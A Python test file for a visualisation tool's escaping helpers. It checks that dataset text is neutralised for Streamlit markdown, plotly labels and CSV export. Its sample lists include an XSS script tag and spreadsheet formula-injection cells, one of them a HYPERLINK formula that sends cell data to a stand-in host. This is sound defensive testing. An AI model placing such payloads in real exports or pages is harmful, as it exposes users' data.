"""Strings from a dataset or a URL shown as data: markdown, plotly and CSV escaping.

Markdown is rendered with markdown-it-py (CommonMark, like Streamlit's remark) and the rendered
text is checked against the regexes Streamlit's text plugins apply after parsing (emoji, icons,
logo, typography, GFM autolinks). Plotly escaping is run through plotly.js's own text builder,
extracted from the bundles installed here (plotly's and Streamlit's), when ``node`` is available.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import shutil
import string
import subprocess
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from nanomlqa_viz.escaping import (
    FORMULA_TRIGGERS,
    WORD_JOINER,
    csv_bytes,
    csv_cell,
    csv_safe_frame,
    markdown_text,
    plotly_labels,
    plotly_text,
    short_label,
)

HOSTILE = [
    "**bold** __b__ *i* _i_",
    "[link](http://x.invalid) ![img](x.png) <http://y.invalid>",
    "<script>alert(1)</script> <b>b</b> <a href='https://e.invalid'>a</a> <!-- c -->",
    "# heading",
    "### h3 ###",
    "> quote",
    "- item",
    "+ item",
    "* item",
    "1. item",
    "1) item",
    "---",
    "***",
    "title\n===",
    "```\ncode\n```",
    "~~~\ncode",
    "    indented code",
    "text\n\n    indented after a blank line",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "~~strike~~ ~single~",
    "$x^2$ and $$\\int f$$ cost $5 and $10",
    ":red[red] :blue-background[x] :small[s] :help[h] :color[c]{foreground=red}",
    ":material/home: :material_home: :streamlit: :smile: :+1: :-1: :tada:",
    "a -> b <- c <-> d -- e >= f <= g ~= h",
    "see http://a.invalid HTTPS://B.INVALID www.c.invalid mail@d.invalid mailto:e@f.invalid",
    "&amp; &lt;b&gt; &#60;i&#62; &copy;",
    "[^1] footnote\n\n[^1]: note",
    "[ref]: http://r.invalid\n[ref]",
    "- [ ] task",
    "back\\slash \\*not bold\\*",
    "trailing two spaces  \nnext line",
    "tab\tin text",
    "q1 ar: ما هو؟ zh: 什么是 hi: क्या है?",
    "10:30:00 ratio 1:2",
    "\x00nul and \r\nCRLF and \rCR",
]


# --------------------------------------------------------------------------- markdown


def _render(text: str) -> str:
    markdown_it = pytest.importorskip("markdown_it")
    md = markdown_it.MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    return md.render(text)


def _shown_text(rendered: str) -> str:
    """The text a reader sees: tags dropped, entities decoded, whitespace collapsed."""
    text = html.unescape(re.sub(r"<br />|</p>\s*<p>", " ", re.sub(r"</?p>", " ", rendered)))
    return " ".join(text.replace(WORD_JOINER, "").replace("\u00a0", " ").split())


def _plain(text: str) -> str:
    return " ".join(text.replace("\x00", "\ufffd").split())


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_text_renders_as_the_literal_text(text):
    rendered = _render(markdown_text(text))
    tags = set(re.findall(r"</?([a-z0-9]+)", rendered))
    assert tags <= {"p", "br"}, f"markup took effect: {rendered!r}"
    assert _shown_text(rendered) == _plain(text)


# What Streamlit's markdown does to the *text* after escapes are resolved (StreamlitMarkdown.tsx,
# remark-emoji, mdast-util-gfm-autolink-literal): none may find anything in escaped text.
STREAMLIT_TEXT_PLUGINS = {
    "emoji": re.compile(r":\+1:|:-1:|:[\w-]+:", re.ASCII),
    "material icon": re.compile(r":material_(\w+):", re.ASCII),
    "streamlit logo": re.compile(r":streamlit:"),
    "typography": re.compile(r"(^|\s)(<->|->|<-|--|>=|<=|~=)(\s|$)"),
    "autolink": re.compile(r"(https?://|www(?=\.))([-.\w]+)", re.IGNORECASE),
    "email autolink": re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)"),
}


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_text_gives_streamlit_text_plugins_nothing_to_replace(text):
    rendered = html.unescape(_render(markdown_text(text)))
    found = {name: m.group() for name, rx in STREAMLIT_TEXT_PLUGINS.items() if (m := rx.search(rendered))}
    assert not found


def test_the_plugin_regexes_do_fire_on_unescaped_text():
    """The check above can fail: the same regexes find their targets in the raw samples."""
    raw = "\n".join(HOSTILE)
    assert all(rx.search(raw) for rx in STREAMLIT_TEXT_PLUGINS.values())
    assert set(re.findall(r"</?([a-z0-9]+)", _render(raw))) - {"p", "br"}


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_text_leaves_no_bare_punctuation(text):
    """Directives (``:red[``), math (``$``), HTML and block markers are parsed from the source:
    every ASCII punctuation mark there is backslash-escaped."""
    out = markdown_text(text)
    unescaped = re.sub(r"\\[!-/:-@\[-`{-~]", "", out)
    assert not set(unescaped) & set(string.punctuation), unescaped


def test_markdown_text_escapes_every_ascii_punctuation_mark():
    for mark in string.punctuation:
        assert markdown_text(mark) == "\\" + mark
        assert markdown_text(f"a{mark}b") == f"a\\{mark}b" or mark in ":@"


def test_markdown_text_keeps_plain_text_and_newlines():
    assert markdown_text("plain words 123 äöü 中文") == "plain words 123 äöü 中文"
    assert markdown_text("one\ntwo\r\nthree\rfour") == "one  \ntwo  \nthree  \nfour"
    assert markdown_text("    four") == "\u00a0" * 4 + "four"


def test_markdown_text_marks_are_invisible_and_few():
    """Word joiners go only where a token would form: times and ratios stay as they are."""
    assert WORD_JOINER not in markdown_text("ratio 1: 2, a - b, x@ y, www example")
    assert markdown_text(":smile:") == "\\:" + WORD_JOINER + "smile\\:"
    assert markdown_text("a -> b") == "a \\-" + WORD_JOINER + "\\> b"


# --------------------------------------------------------------------------- plotly

_PLOTLY_ENTITY = re.compile(r"&(#\d+|#x[\da-fA-F]+|[a-z]+);")
_PLOTLY_NAMED = {"mu": "μ", "amp": "&", "lt": "<", "gt": ">", "nbsp": "\u00a0", "times": "×", "plusmn": "±", "deg": "°"}


def _plotly_decode(text: str) -> str:
    """plotly.js convertEntities (svg_text_utils.js): one pass, named subset and numeric entities."""

    def one(m: re.Match) -> str:
        key = m.group(1)
        if key.startswith("#"):
            return chr(int(key[2:], 16) if key[1] == "x" else int(key[1:]))
        return _PLOTLY_NAMED.get(key, m.group())

    return _PLOTLY_ENTITY.sub(one, text)


PLOTLY_HOSTILE = [
    "<b>bold</b>",
    '<a href="https://e.invalid">click</a>',
    "<br>",
    "a<br/>b",
    "<sup>2</sup><sub>i</sub><i>i</i><em>e</em><s>s</s><u>u</u>",
    '<span style="color:red">red</span>',
    "x &lt;b&gt; y &amp;lt; &#60;b&#62; &#x3C;i&#x3E; &nbsp;&deg;",
    "$x^2$",
    "%{customdata[0]} %{y:.2f}",
    "<<b>>",
    "plain text",
    "",
]


@pytest.mark.parametrize("text", PLOTLY_HOSTILE + HOSTILE)
def test_plotly_text_has_no_tag_and_decodes_to_itself(text):
    out = plotly_text(text)
    assert not set(out) & set("<>$%")
    assert re.sub(r"&(amp|lt|gt|#36|#37);", "", out).count("&") == 0
    assert _plotly_decode(out) == text


def test_plotly_labels_escape_each_value():
    assert plotly_labels(["<b>a</b>", "b & c", "ok"]) == ["&lt;b&gt;a&lt;/b&gt;", "b &amp; c", "ok"]
    assert plotly_labels(iter(())) == []


_SVG_TEXT_HARNESS = r"""
const [chunk, fnName, inputs] = JSON.parse(require('fs').readFileSync(0, 'utf8'));
class El { constructor(tag) { this.tag = tag; this.attrs = {}; this.children = []; }
  appendChild(c) { this.children.push(c); return c; } setAttribute(k, v) { this.attrs[k] = String(v); } }
global.document = {
  createElementNS: (ns, tag) => new El(tag),
  createTextNode: (text) => ({ text }),
  createElement: () => ({ href: '',
    get protocol() { try { return new URL(this.href, 'http://h/').protocol; } catch { return ':'; } } }),
};
const select = (node) => ({ attr(k, v) {
  if (typeof k === 'object') { for (const [a, b] of Object.entries(k)) node.setAttribute(a, b); } else node.setAttribute(k, v);
  return this; } });
const any = { svg: 'svg', select, log() {}, valueOf() { return 1.3; } };
const scope = new Proxy({}, { has: (t, key) => !(key in globalThis), get: (t, key) => (key in t ? t[key] : any),
  set: (t, key, value) => { t[key] = value; return true; } });
const build = new Function('scope', 'with (scope) {' + chunk + '; return ' + fnName + '; }')(scope);
const walk = (n) => ('text' in n ? { text: n.text } : { tag: n.tag, children: n.children.map(walk) });
console.log(JSON.stringify(inputs.map((s) => { const root = new El('text'); build(root, s); return root.children.map(walk); })));
"""


def _plotly_bundles() -> list[Path]:
    import plotly
    import streamlit

    found = [Path(plotly.__file__).parent / "package_data" / "plotly.min.js"]
    found += sorted((Path(streamlit.__file__).parent / "static").glob("static/js/PlotlyChart*.js"))
    return [p for p in found if p.is_file()]


def _svg_text_builder(bundle: Path) -> tuple[str, str] | None:
    """plotly.js's buildSVGText (and the tables it uses) cut out of a minified bundle."""
    src = bundle.read_text(encoding="utf-8")
    start = re.search(r"var \w+=\{sup:[`\"]font-size:70%[`\"]", src)
    end = start and re.compile(r"\w+\.sanitizeHTML=function").search(src, start.start())
    if not (start and end):
        return None
    chunk = src[start.start() : end.start()]
    fn = re.search(r"function (\w+)\((\w+),(\w+)\)\{\3=\3\.replace\(\w+,[`\"] [`\"]\);var", chunk)
    return (chunk, fn.group(1)) if fn else None


def _flatten(nodes: list[dict]) -> tuple[list[str], str]:
    tags: list[str] = []
    text: list[str] = []

    def walk(node: dict) -> None:
        if "text" in node:
            text.append(node["text"])
        else:
            tags.append(node["tag"])
            for child in node["children"]:
                walk(child)

    for node in nodes:
        walk(node)
    return tags, "".join(text)


@pytest.mark.parametrize("bundle", _plotly_bundles(), ids=lambda p: p.name)
def test_plotly_js_shows_escaped_text_literally(bundle):
    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not installed: plotly.js cannot be run here")
    builder = _svg_text_builder(bundle)
    if builder is None:
        pytest.skip(f"buildSVGText not found in {bundle.name} (bundle layout changed)")
    samples = [*PLOTLY_HOSTILE[:-2], "q1 <b>ar</b>\n<i>x</i>"]
    inputs = samples + [plotly_text(s) for s in samples]
    proc = subprocess.run(
        [node, "-e", _SVG_TEXT_HARNESS], input=json.dumps([*builder, inputs]), capture_output=True, text=True, timeout=60
    )
    assert proc.returncode == 0, proc.stderr
    results = [_flatten(nodes) for nodes in json.loads(proc.stdout)]
    raw, escaped = results[: len(samples)], results[len(samples) :]
    assert sum(bool(tags) for tags, _ in raw) >= 5, "the harness sees plotly's tags in raw text"
    for sample, (tags, shown) in zip(samples, escaped):
        assert tags == [], sample
        assert shown == sample.replace("\n", " ")


# --------------------------------------------------------------------------- display


def test_short_label():
    assert short_label("short", 10) == "short"
    assert short_label("exactly10!", 10) == "exactly10!"
    assert short_label("a longer label here", 10) == "a longer…"
    assert len(short_label("x" * 50, 12)) == 12
    # never between a letter and its combining mark
    assert short_label("abcde\u0301fgh", 6) == "abcd…"
    with pytest.raises(ValueError):
        short_label("x", 0)


# --------------------------------------------------------------------------- CSV


def _hostile_frame() -> pd.DataFrame:
    questions = [
        '=HYPERLINK("http://e.invalid?d="&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20x",
        "'=already quoted",
        'plain, with "quotes"\nand a newline',
    ]
    n = len(questions)
    return pd.DataFrame(
        {
            "query_id": [f"q{i}" for i in range(n)],
            "question": questions,
            "delta": np.linspace(-2.5, 3.0, n),
            "rank": np.arange(-3, n - 3),
            "lang": pd.Categorical(["-x" if i == 0 else "en" for i in range(n)]),
            "note": pd.array([None if i == 1 else "=n" for i in range(n)], dtype="string"),
            "=cmd": ["ok"] * n,
        }
    )


def test_csv_bytes_neutralises_formulas_and_keeps_numbers():
    frame = _hostile_frame()
    data = csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark for Excel"
    back = pd.read_csv(io.BytesIO(data))
    assert list(back.columns) == ["query_id", "question", "delta", "rank", "lang", "note", "'=cmd"]
    questions = frame["question"].tolist()
    assert back["question"].tolist() == ["'" + q for q in questions[:10]] + questions[10:]
    assert pd.api.types.is_float_dtype(back["delta"]) and np.allclose(back["delta"], frame["delta"])
    assert pd.api.types.is_integer_dtype(back["rank"]) and back["rank"].tolist() == frame["rank"].tolist()
    assert back["lang"][0] == "'-x" and back["note"][0] == "'=n" and pd.isna(back["note"][1])
    assert back["query_id"].tolist() == frame["query_id"].tolist()


def test_no_csv_cell_starts_like_a_formula_unless_it_is_a_number():
    text = csv_bytes(_hostile_frame()).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    risky = [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert risky and all(re.fullmatch(r"-\d+(\.\d+)?", c) for c in risky), risky


def test_csv_safe_frame_leaves_the_input_alone():
    frame = _hostile_frame()
    before = frame.copy()
    safe = csv_safe_frame(frame)
    pd.testing.assert_frame_equal(frame, before)
    assert safe["question"][0].startswith("'=") and safe["delta"].dtype == frame["delta"].dtype
    indexed = csv_safe_frame(pd.DataFrame({"v": [1, 2]}, index=pd.Index(["=a", "b"], name="@id")))
    assert indexed.index.tolist() == ["'=a", "b"] and indexed.index.name == "'@id"


def test_csv_cell():
    assert csv_cell("=1") == "'=1" and csv_cell("a=1") == "a=1" and csv_cell(-1) == -1 and csv_cell(None) is None
